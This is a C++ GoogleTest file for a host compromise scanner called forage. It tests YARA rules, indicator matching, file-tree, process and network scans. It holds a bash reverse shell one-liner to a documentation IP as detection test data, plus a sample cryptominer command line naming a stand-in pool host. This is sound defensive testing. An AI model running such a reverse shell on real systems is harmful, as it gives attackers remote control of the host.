// Host scanners against real things: files planted in a temporary tree, a forked child with a
// marker in its heap, a loopback TCP connection, saved /proc samples for the parsers.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <sstream>

#include <gtest/gtest.h>

#include "test_util.h"

#include "common/error.h"
#include "common/hash.h"
#include "scanners/file_scan.h"
#include "scanners/net_scan.h"
#include "host/fs.h"
#include "host/proc.h"
#include "scanners/proc_scan.h"
#include "host/accounts.h"

namespace fs = std::filesystem;
using namespace forage;
using namespace forage::scanners;
using namespace forage::host;
using namespace forage::scanners::test;

namespace {

// Runs a scan into a memory stream; returns the JSON lines.
struct Captured {
  std::vector<Json> lines;
  std::vector<Json> of_kind(const std::string& kind) const {
    std::vector<Json> out;
    for (const auto& l : lines)
      if (l.value("kind", "") == kind) out.push_back(l);
    return out;
  }
};

template <typename Fn>
Captured capture(Fn fn) {
  char* buf = nullptr;
  size_t size = 0;
  std::FILE* mem = open_memstream(&buf, &size);
  {
    Reporter rep(true, mem);
    ScanStats stats;
    fn(rep, stats);
    rep.summary(stats.summary(0));
  }
  std::fclose(mem);
  Captured c;
  std::istringstream in(std::string(buf, size));
  std::free(buf);
  for (std::string line; std::getline(in, line);) c.lines.push_back(Json::parse(line));
  return c;
}

}  // namespace

// --- YARA rules

TEST(YaraRules, CompileErrorNamesFileAndLine) {
  TempDir d;
  write(d.path / "bad.yar", "rule ok { condition: true }\n\nrule bad { condition: $nope }\n");
  try {
    YaraRules::load({(d.path / "bad.yar").string()});
    FAIL() << "expected a compile error";
  } catch (const Error& e) {
    std::string msg = e.what();
    EXPECT_NE(msg.find("bad.yar:3"), std::string::npos) << msg;
    EXPECT_EQ(e.code(), Exit::kUsage);
  }
}

TEST(YaraRules, MissingAndEmptyInputsAreErrors) {
  TempDir d;
  EXPECT_THROW(YaraRules::load({(d.path / "none.yar").string()}), Error);
  EXPECT_THROW(YaraRules::load({d.path.string()}), Error);  // no rule files inside
  write(d.path / "garbage.yar", std::string("\0\xff\xfe rule {{{", 12));
  EXPECT_THROW(YaraRules::load({(d.path / "garbage.yar").string()}), Error);
}

TEST(YaraRules, DirectoryRecursiveWithNamespacesPerFile) {
  TempDir d;
  fs::create_directories(d.path / "a" / "b");
  // The same rule name in two files must not collide.
  write(d.path / "a" / "one.yar", "rule same { strings: $x = \"alpha\" condition: $x }");
  write(d.path / "a" / "b" / "two.yara", "rule same { strings: $x = \"beta\" condition: $x }");
  write(d.path / "a" / "notes.txt", "not a rule");
  auto rules = YaraRules::load({d.path.string()});
  EXPECT_EQ(rules.rule_count(), 2u);
  YaraScanner s(rules, 10);
  std::string data = "xx alpha yy beta";
  auto r = s.scan(reinterpret_cast<const uint8_t*>(data.data()), data.size(), {}, 0);
  ASSERT_EQ(r.matches.size(), 2u);
  EXPECT_EQ(r.matches[0].ns, "a/b/two.yara");
  EXPECT_EQ(r.matches[1].ns, "a/one.yar");
  EXPECT_EQ(r.matches[1].strings.at(0).offset, 3u);
  EXPECT_EQ(r.matches[1].strings.at(0).data, "alpha");
}

TEST(YaraRules, ExternalsAreDefinedAndSetPerTarget) {
  auto rules = YaraRules::from_string(
      "rule ext { condition: filename == \"evil.exe\" and extension == \".exe\" and "
      "filepath contains \"/tmp/\" and filetype == \"EXE\" and owner == \"mallory\" }",
      "test");
  YaraScanner s(rules, 0);
  YaraExternals e{"evil.exe", "/tmp/evil.exe", ".exe", "EXE", "mallory"};
  EXPECT_EQ(s.scan(nullptr, 0, e).matches.size(), 1u);
  e.owner = "alice";
  EXPECT_EQ(s.scan(nullptr, 0, e).matches.size(), 0u);
}

TEST(YaraRules, SaveAndLoadCompiled) {
  TempDir d;
  auto rules = YaraRules::from_string(
      "import \"pe\"\nimport \"elf\"\nimport \"math\"\nimport \"hash\"\n"
      "rule elf_file { condition: uint32(0) == 0x464c457f and elf.number_of_sections >= 0 }",
      "test");
  auto out = (d.path / "rules.yarc").string();
  rules.save(out);
  auto loaded = YaraRules::load({out});
  EXPECT_EQ(loaded.rule_count(), 1u);
  YaraScanner s(loaded, 10);
  std::ifstream f("/bin/true", std::ios::binary);
  std::string elf((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
  ASSERT_GT(elf.size(), 1000u);
  EXPECT_EQ(s.scan(reinterpret_cast<const uint8_t*>(elf.data()), elf.size(), {}).matches.size(),
            1u);
  // Compiled and source sets together: two sets, both scanned.
  write(d.path / "src.yar", "rule always { condition: true }");
  auto both = YaraRules::load({out, (d.path / "src.yar").string()});
  EXPECT_EQ(both.set_count(), 2u);
  YaraScanner s2(both, 10);
  EXPECT_EQ(s2.scan(reinterpret_cast<const uint8_t*>(elf.data()), elf.size(), {}).matches.size(),
            2u);
  EXPECT_THROW(both.save((d.path / "x.yarc").string()), Error);
}

TEST(YaraRules, BuiltinRulesCompileAndHit) {
  auto rules = YaraRules::builtin();
  EXPECT_GE(rules.rule_count(), 5u);
  YaraScanner s(rules, 10);
  std::string shell = "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n";
  auto r = s.scan(reinterpret_cast<const uint8_t*>(shell.data()), shell.size(), {});
  ASSERT_EQ(r.matches.size(), 1u);
  EXPECT_EQ(r.matches[0].rule, "forage_reverse_shell_bash");
  std::string elf =
      "\x7f"
      "ELF" +
      std::string(60, '\0');
  YaraExternals in_tmp;
  in_tmp.filepath = "/tmp/.x/kworker";
  auto r2 = s.scan(reinterpret_cast<const uint8_t*>(elf.data()), elf.size(), in_tmp);
  EXPECT_EQ(r2.matches.size(), 2u);  // ELF in /tmp, and hidden
  YaraExternals in_usr;
  in_usr.filepath = "/usr/bin/true";
  EXPECT_TRUE(
      s.scan(reinterpret_cast<const uint8_t*>(elf.data()), elf.size(), in_usr).matches.empty());
}

TEST(FiletypeTag, LokiStyleTags) {
  EXPECT_EQ(filetype_tag("ELF 64-bit LSB pie executable, x86-64"), "ELF");
  EXPECT_EQ(filetype_tag("PE32+ executable (console) x86-64, for MS Windows"), "EXE");
  EXPECT_EQ(filetype_tag("PE32 executable (DLL) (GUI) Intel 80386, for MS Windows"), "DLL");
  EXPECT_EQ(filetype_tag("Zip archive data, at least v2.0 to extract"), "ZIP");
  EXPECT_EQ(filetype_tag("ASCII text"), "");
}

// --- indicators

TEST(IocIndex, LookupsAndText) {
  ioc::IocSet set;
  set.add(ind(ioc::Type::kSha256, std::string(64, 'a')));
  set.add(ind(ioc::Type::kFilename, "kdevtmpfsi"));
  set.add(ind(ioc::Type::kFilepath, "/tmp/.x/miner"));
  set.add(ind(ioc::Type::kUsername, "mallory"));
  set.add(ind(ioc::Type::kCidr, "203.0.113.0/24"));
  set.add(ind(ioc::Type::kDomain, "evil.example.com"));
  set.add(ind(ioc::Type::kX509Dn, "/DC=org/DC=example/CN=Mallory"));
  IocIndex x(set);
  ASSERT_EQ(x.hash_algos().size(), 1u);
  EXPECT_EQ(x.hash_algos()[0], HashAlgo::kSha256);
  EXPECT_NE(x.hash(HashAlgo::kSha256, std::string(64, 'a')), nullptr);
  EXPECT_EQ(x.hash(HashAlgo::kSha256, std::string(64, 'b')), nullptr);
  EXPECT_NE(x.filepath("/tmp/.x/miner"), nullptr);
  EXPECT_NE(x.filepath("/mnt/image/tmp/.x/miner"), nullptr);
  EXPECT_EQ(x.filepath("/tmp/.x/miner2"), nullptr);
  EXPECT_EQ(x.filepath("/tmp/.x"), nullptr);

  auto found = x.in_text(
      "./kdevtmpfsi --url=stratum+tcp://pool.evil.example.com:3333 -u mallory@x "
      "--peer 203.0.113.77:443\nX509_USER_DN=/DC=org/DC=example/CN=Mallory");
  std::set<std::string> values;
  for (const auto* i : found) values.insert(i->value);
  EXPECT_EQ(values, (std::set<std::string>{"kdevtmpfsi", "evil.example.com", "mallory",
                                           "203.0.113.0/24", "/DC=org/DC=example/CN=Mallory"}));
  EXPECT_TRUE(x.in_text("nothing to see 203.0.114.1 example.com").empty());
  // Hostile text: long, binary, no crash.
  std::string junk(100000, '\0');
  for (size_t i = 0; i < junk.size(); ++i) junk[i] = static_cast<char>(i * 7919);
  x.in_text(junk);
}

TEST(UserNames, ParsesPasswdAndFallsBackToNumbers) {
  auto u = UserNames::parse(
      "root:x:0:0:root:/root:/bin/bash\n# comment\nbroken "
      "line\nalice:x:1000:1000::/home/a:/bin/sh\n"
      "bad:x:notanumber:0::/:/bin/sh\n:x:5:5::/:/bin/sh\n");
  EXPECT_EQ(u.name(0), "root");
  EXPECT_EQ(u.name(1000), "alice");
  EXPECT_EQ(u.name(4242), "4242");
  EXPECT_EQ(u.size(), 2u);
  EXPECT_EQ(UserNames::load("/nonexistent/passwd").size(), 0u);
}

// --- scan files on a planted tree

TEST(ScanFiles, PlantedTree) {
  TempDir d;
  const fs::path root = d.path / "tree";
  fs::create_directories(root / "sub" / "deeper");
  write(root / "payload.bin", "dropper payload 1234");
  write(root / "sub" / "kdevtmpfsi", "a miner by name");
  write(root / "sub" / "deeper" / "yara-hit.txt", "xx FORAGE_TEST_MARKER yy");
  write(root / "empty", "");
  write(root / "name\nwith newline", "FORAGE_TEST_MARKER");
  fs::create_directory_symlink(root, root / "sub" / "loop");  // symlink loop: not followed
  fs::create_symlink(root / "payload.bin", root / "link-to-payload");
  ASSERT_EQ(::mkfifo((root / "fifo").c_str(), 0600), 0);  // opening it would block
  write(root / "big", std::string(4096, 'B'));
  write(root / "skip.log", "FORAGE_TEST_MARKER");

  ioc::IocSet set;
  set.add(ind(ioc::Type::kSha256, sha256_hex("dropper payload 1234")));
  set.add(ind(ioc::Type::kFilename, "kdevtmpfsi"));
  IocIndex index(set);
  auto rules = YaraRules::from_string(
      "rule marker { strings: $m = \"FORAGE_TEST_MARKER\" condition: $m }\n"
      "rule empty_file { condition: filesize == 0 and filename == \"empty\" }",
      "test");
  UserNames users = UserNames::parse("root:x:0:0::/:/bin/sh\n");
  ScanInputs in{&rules, &index, &users, 10};
  FileScanOptions opts;
  opts.walk.paths = {root.string()};
  opts.walk.max_size = 1024;
  opts.walk.excludes = {"*.log"};
  opts.threads = 3;

  auto out = capture([&](Reporter& rep, ScanStats& st) { scan_files(opts, in, rep, st); });
  auto iocs = out.of_kind("ioc");
  auto yaras = out.of_kind("yara");
  ASSERT_EQ(iocs.size(), 2u);
  std::set<std::string> matches;
  for (auto& f : iocs) {
    matches.insert(f["match"].get<std::string>() + " " + f["path"].get<std::string>());
    EXPECT_EQ(f["ioc"]["tlp"], "TLP:AMBER");
    EXPECT_EQ(f["ioc"]["source"], "unit");
  }
  EXPECT_EQ(matches, (std::set<std::string>{"sha256 " + (root / "payload.bin").string(),
                                            "filename " + (root / "sub/kdevtmpfsi").string()}));
  std::set<std::string> yara_paths;
  for (auto& f : yaras)
    yara_paths.insert(f["rule"].get<std::string>() + " " + f["path"].get<std::string>());
  EXPECT_EQ(yara_paths,
            (std::set<std::string>{"marker " + (root / "sub/deeper/yara-hit.txt").string(),
                                   "marker " + (root / "name\nwith newline").string(),
                                   "empty_file " + (root / "empty").string()}));
  auto sum = out.of_kind("summary").at(0);
  EXPECT_EQ(sum["targets_scanned"], 5);  // payload, kdevtmpfsi, yara-hit, empty, newline
  EXPECT_EQ(sum["skipped"]["symlink"], 2);
  EXPECT_EQ(sum["skipped"]["special"], 1);
  EXPECT_EQ(sum["skipped"]["too-large"], 1);
  EXPECT_EQ(sum["skipped"]["excluded"], 1);
  EXPECT_EQ(sum["incomplete"], false) << sum.dump();
}

TEST(ScanFiles, FiletypeExternalFromLibmagic) {
  TempDir d;
  fs::copy_file("/bin/true", d.path / "prog");
  write(d.path / "text", "hello\n");
  auto rules = YaraRules::from_string(
      "rule is_elf { condition: filetype == \"ELF\" and extension == \"\" }", "test");
  EXPECT_TRUE(rules.uses_filetype());
  EXPECT_FALSE(YaraRules::from_string("rule x { condition: true }", "t").uses_filetype());
  ScanInputs in{&rules, nullptr, nullptr, 10};
  FileScanOptions opts;
  opts.walk.paths = {d.path.string()};
  auto out = capture([&](Reporter& rep, ScanStats& st) { scan_files(opts, in, rep, st); });
  auto hits = out.of_kind("yara");
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_EQ(hits[0]["path"], (d.path / "prog").string());
  EXPECT_EQ(hits[0]["filetype"].get<std::string>().rfind("ELF", 0), 0u);
}

TEST(ScanFiles, UnreadableFileMakesTheRunIncomplete) {
  if (::geteuid() == 0) GTEST_SKIP() << "root reads every file";
  TempDir d;
  write(d.path / "secret", "x");
  ::chmod((d.path / "secret").c_str(), 0);
  FileScanOptions opts;
  opts.walk.paths = {d.path.string()};
  ScanInputs in;
  auto out = capture([&](Reporter& rep, ScanStats& st) {
    scan_files(opts, in, rep, st);
    EXPECT_TRUE(st.incomplete());
  });
  EXPECT_EQ(out.of_kind("summary").at(0)["skipped"]["unreadable"], 1);
}

TEST(ScanFiles, FileDeletedBetweenWalkAndScan) {
  TempDir d;
  write(d.path / "a", "1");
  write(d.path / "b", "2");
  ScanStats stats;
  WalkOptions w;
  w.paths = {d.path.string()};
  auto entries = walk(w, stats);
  ASSERT_EQ(entries.size(), 2u);
  fs::remove(d.path / "a");
  write(d.path / "b.new", "replaced");
  fs::rename(d.path / "b.new", d.path / "b");  // same name, another inode
  FileScanOptions opts;
  ScanInputs in;
  auto out = capture([&](Reporter& rep, ScanStats& st) {
    scan_entries(entries, opts, in, rep, st);
    EXPECT_FALSE(st.incomplete());  // files that go away are normal on a live host
  });
  auto sum = out.of_kind("summary").at(0);
  EXPECT_EQ(sum["skipped"]["vanished"], 1);
  EXPECT_EQ(sum["skipped"]["changed"], 1);
  EXPECT_EQ(sum["targets_scanned"], 0);
}

TEST(FsKind, PseudoAndNetwork) {
  EXPECT_EQ(fs_kind(0x9fa0, "/proc"), FsKind::kPseudo);
  EXPECT_EQ(fs_kind(0x62656572, "/sys"), FsKind::kPseudo);
  EXPECT_EQ(fs_kind(0x01021994, "/dev"), FsKind::kPseudo);  // devtmpfs looks like tmpfs
  EXPECT_EQ(fs_kind(0x01021994, "/dev/shm"), FsKind::kLocal);
  EXPECT_EQ(fs_kind(0x6969, "/home"), FsKind::kNetwork);
  EXPECT_EQ(fs_kind(0x65735546, "/cvmfs"), FsKind::kFuse);
  EXPECT_EQ(fs_kind(0xEF53, "/"), FsKind::kLocal);
}

TEST(ScanFiles, PseudoFileSystemSkippedUnlessNamed) {
  ScanStats stats;
  WalkOptions w;
  w.paths = {"/proc/self/status"};  // named: scanned
  auto named = walk(w, stats);
  EXPECT_EQ(named.size(), 1u);
}

// --- /proc parsers on saved samples

TEST(ProcMaps, ParsesAndClassifies) {
  std::string sample =
      "55d0c0a00000-55d0c0a21000 r--p 00000000 fd:01 1835023                    /usr/bin/cat\n"
      "55d0c2b4e000-55d0c2b6f000 rw-p 00000000 00:00 0                          [heap]\n"
      "7f1c4a000000-7f1c4a021000 ---p 00000000 00:00 0 \n"
      "7f1c4b3f0000-7f1c4b3f2000 rw-s 00000000 00:05 1049                       /dev/nvidia0\n"
      "7f1c4b3f2000-7f1c4b3f3000 rw-s 00000000 00:1a 77                         /dev/shm/x y\n"
      "7ffd5e9fd000-7ffd5ea01000 r--p 00000000 00:00 0                          [vvar]\n"
      "ffffffffff600000-ffffffffff601000 --xp 00000000 00:00 0                  [vsyscall]\n"
      "zzzz-1000 r--p 00000000 00:00 0\n"
      "2000-1000 r--p 00000000 00:00 0\n"
      "1000-2000 rw 00000000 00:00 0\n";
  size_t bad = 0;
  auto regions = parse_maps(sample, &bad);
  ASSERT_EQ(regions.size(), 7u);
  EXPECT_EQ(bad, 3u);
  EXPECT_EQ(regions[0].start, 0x55d0c0a00000u);
  EXPECT_EQ(regions[0].path, "/usr/bin/cat");
  EXPECT_EQ(regions[4].path, "/dev/shm/x y");
  EXPECT_EQ(region_skip_reason(regions[0]), "");
  EXPECT_EQ(region_skip_reason(regions[1]), "");
  EXPECT_EQ(region_skip_reason(regions[2]), "no-read");
  EXPECT_EQ(region_skip_reason(regions[3]), "device");
  EXPECT_EQ(region_skip_reason(regions[4]), "");
  EXPECT_EQ(region_skip_reason(regions[5]), "vvar");
  EXPECT_EQ(region_skip_reason(regions[6]), "vsyscall");
}

TEST(ProcNet, ParsesSavedSample) {
  // From a little-endian host: 127.0.0.1:631 listening, 10.0.0.5:22 <- 192.0.2.7:51000.
  std::string tcp =
      "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  "
      "timeout inode\n"
      "   0: 0100007F:0277 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        "
      "0 23456 1 0000000000000000 100 0 0 10 0\n"
      "   1: 0500000A:0016 070200C0:C738 01 00000000:00000000 02:000A7D8B 00000000  1000        "
      "0 34567 4 0000000000000000 20 4 29 10 -1\n"
      "   2: garbage\n";
  size_t bad = 0;
  auto s = parse_proc_net(tcp, "tcp", &bad);
  ASSERT_EQ(s.size(), 2u);
  EXPECT_EQ(bad, 1u);
  EXPECT_EQ(endpoint(s[0], false), "127.0.0.1:631");
  EXPECT_EQ(s[0].state, "LISTEN");
  EXPECT_EQ(endpoint(s[1], true), "192.0.2.7:51000");
  EXPECT_EQ(endpoint(s[1], false), "10.0.0.5:22");
  EXPECT_EQ(s[1].uid, 1000u);
  EXPECT_EQ(s[1].inode, 34567u);
  std::string tcp6 =
      "  sl  local_address                         remote_address                        st "
      "tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
      "   0: 00000000000000000000000001000000:0016 0000000000000000FFFF00000100007F:A000 01 "
      "00000000:00000000 00:00000000 00000000     0        0 45678 1 0000000000000000 100 0 0 10 "
      "0\n";
  auto s6 = parse_proc_net(tcp6, "tcp6");
  ASSERT_EQ(s6.size(), 1u);
  EXPECT_EQ(endpoint(s6[0], false), "[::1]:22");
  EXPECT_EQ(endpoint(s6[0], true), "[::ffff:127.0.0.1]:40960");
  auto u = parse_proc_net(
      "  sl  local_address rem_address   st\n  1: 00000000:0044 00000000:0000 07 00000000:00000000 "
      "00:00000000 00000000     0        0 111 2 0000000000000000 0\n",
      "udp");
  ASSERT_EQ(u.size(), 1u);
  EXPECT_EQ(u[0].state, "UNCONN");
}

// --- live processes

namespace {

// A child holding `marker` in heap memory only (built at run time, so the text exists in no
// file), waiting until its pipe closes.
struct MarkerChild {
  pid_t pid = -1;
  int release_fd = -1;
  explicit MarkerChild(const std::string& part1, const std::string& part2) {
    int p[2];
    if (::pipe(p) != 0) return;
    pid = ::fork();
    if (pid == 0) {
      ::close(p[1]);
      std::string* heap = new std::string(part1 + part2);
      char c;
      ssize_t n = ::read(p[0], &c, 1);
      (void)n;
      delete heap;
      ::_exit(0);
    }
    ::close(p[0]);
    release_fd = p[1];
    ::usleep(100000);
  }
  ~MarkerChild() {
    if (release_fd >= 0) ::close(release_fd);
    if (pid > 0) ::waitpid(pid, nullptr, 0);
  }
};

}  // namespace

TEST(ScanProcs, FindsHeapMarkerInTheRightPid) {
  MarkerChild child("FORAGE_PROC_", "MARKER_5d1e");
  ASSERT_GT(child.pid, 0);
  auto rules = YaraRules::from_string(
      "rule heap_marker { strings: $m = \"FORAGE_PROC_MARKER_5d1e\" condition: $m }", "test");
  ScanInputs in{&rules, nullptr, nullptr, 10};
  ProcScanOptions opts;
  opts.pids = {child.pid, 999999999};  // the second one does not exist: skipped, not an error
  auto out = capture([&](Reporter& rep, ScanStats& st) { scan_procs(opts, in, rep, st); });
  auto hits = out.of_kind("yara");
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_EQ(hits[0]["pid"], child.pid);
  EXPECT_EQ(hits[0]["rule"], "heap_marker");
  EXPECT_TRUE(hits[0].contains("region"));
  auto sum = out.of_kind("summary").at(0);
  EXPECT_EQ(sum["skipped"]["exited"], 1);
  EXPECT_EQ(sum["targets_scanned"], 1);
}

TEST(ScanProcs, NeverScansItself) {
  auto rules = YaraRules::from_string("rule any_memory { condition: true }", "test");
  ScanInputs in{&rules, nullptr, nullptr, 10};
  ProcScanOptions opts;
  opts.pids = {::getpid()};
  auto out = capture([&](Reporter& rep, ScanStats& st) { scan_procs(opts, in, rep, st); });
  EXPECT_TRUE(out.of_kind("yara").empty());
  EXPECT_EQ(out.of_kind("summary").at(0)["targets_scanned"], 0);
}

TEST(ScanProcs, CommandLineAndOwnerAgainstIndicators) {
  int p[2];
  ASSERT_EQ(::pipe(p), 0);
  pid_t pid = ::fork();
  if (pid == 0) {
    ::close(p[1]);
    ::dup2(p[0], 0);
    ::execl("/bin/sh", "sh", "-c", "read x; : kdevtmpfsi 198.51.100.23", nullptr);
    ::_exit(127);
  }
  ::close(p[0]);
  ::usleep(200000);
  ioc::IocSet set;
  set.add(ind(ioc::Type::kFilename, "kdevtmpfsi"));
  set.add(ind(ioc::Type::kIpv4, "198.51.100.23"));
  set.add(ind(ioc::Type::kUsername, "owner-under-test"));
  IocIndex index(set);
  UserNames users =
      UserNames::parse("owner-under-test:x:" + std::to_string(::getuid()) + ":0::/:\n");
  ScanInputs in{nullptr, &index, &users, 10};
  ProcScanOptions opts;
  opts.pids = {pid};
  auto out = capture([&](Reporter& rep, ScanStats& st) { scan_procs(opts, in, rep, st); });
  ::close(p[1]);
  ::waitpid(pid, nullptr, 0);
  std::set<std::string> got;
  for (auto& f : out.of_kind("ioc")) {
    EXPECT_EQ(f["pid"], pid);
    got.insert(f["match"].get<std::string>() + " " + f["ioc"]["value"].get<std::string>());
  }
  EXPECT_EQ(got, (std::set<std::string>{"cmdline kdevtmpfsi", "cmdline 198.51.100.23",
                                        "owner owner-under-test"}));
}

TEST(ScanNet, LoopbackConnectionToIndicatorHasTheRightPid) {
  int srv = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  ASSERT_GE(srv, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(0x7f000009);  // 127.0.0.9
  ASSERT_EQ(::bind(srv, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
  ASSERT_EQ(::listen(srv, 1), 0);
  socklen_t len = sizeof a;
  ::getsockname(srv, reinterpret_cast<sockaddr*>(&a), &len);
  int p[2];
  ASSERT_EQ(::pipe(p), 0);
  pid_t pid = ::fork();
  if (pid == 0) {
    ::close(srv);
    ::close(p[1]);
    int c = ::socket(AF_INET, SOCK_STREAM, 0);
    if (::connect(c, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) ::_exit(1);
    char x;
    ssize_t n = ::read(p[0], &x, 1);
    (void)n;
    ::_exit(0);
  }
  ::close(p[0]);
  int conn = ::accept4(srv, nullptr, nullptr, SOCK_CLOEXEC);
  ASSERT_GE(conn, 0);
  ::close(srv);  // only the accepted socket stays with us: the listener is not a target

  ioc::IocSet set;
  set.add(ind(ioc::Type::kCidr, "127.0.0.9/32"));
  IocIndex index(set);
  ScanInputs in{nullptr, &index, nullptr, 10};
  NetScanOptions opts;
  opts.listening = false;
  auto out = capture([&](Reporter& rep, ScanStats& st) { scan_net(opts, in, rep, st); });
  ::close(p[1]);
  ::close(conn);
  ::waitpid(pid, nullptr, 0);
  bool child_seen = false, parent_seen = false;
  for (auto& f : out.of_kind("ioc")) {
    EXPECT_EQ(f["ioc"]["value"], "127.0.0.9/32");
    if (f["pid"] == pid) {
      child_seen = true;
      EXPECT_EQ(f["match"], "remote");
      EXPECT_EQ(f["state"], "ESTABLISHED");
      EXPECT_EQ(f["remote"], "127.0.0.9:" + std::to_string(ntohs(a.sin_port)));
    }
    if (f["pid"] == ::getpid()) parent_seen = true;
  }
  EXPECT_TRUE(child_seen);
  EXPECT_TRUE(parent_seen);  // our accepted end has 127.0.0.9 as its local address
}
